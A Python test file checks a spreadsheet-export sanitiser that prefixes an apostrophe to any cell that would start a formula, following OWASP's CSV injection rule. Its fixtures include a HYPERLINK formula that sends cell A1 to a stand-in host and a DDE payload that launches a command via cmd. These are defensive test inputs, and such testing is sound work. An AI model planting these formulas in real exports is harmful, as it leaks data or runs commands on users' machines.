"""No exported cell can start a formula (OWASP's CSV injection rule), numbers and plain text untouched."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from fne_kernel.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://x.example/?"&A1,"clic")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "-",
        "+",
        "=",
        "- Lundi",
    ],
)
def test_text_that_would_start_a_formula_is_prefixed_with_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Médiathèque",
        "",
        " =1",
        "'=1",
        "+33479600404",
        "-3,5",
        "-12.25",
        "+33 4 79 60 04 04",
        3,
        -3.5,
        None,
        True,
    ],
)
def test_other_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_an_xlsx_cell_holds_text_not_a_formula() -> None:
    book = Workbook()
    book.active.append(safe_row(["=1+1", -4, "ok"]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [cell.value for cell in cells] == ["'=1+1", -4, "ok"]
    assert [cell.data_type for cell in cells] == ["s", "n", "s"]
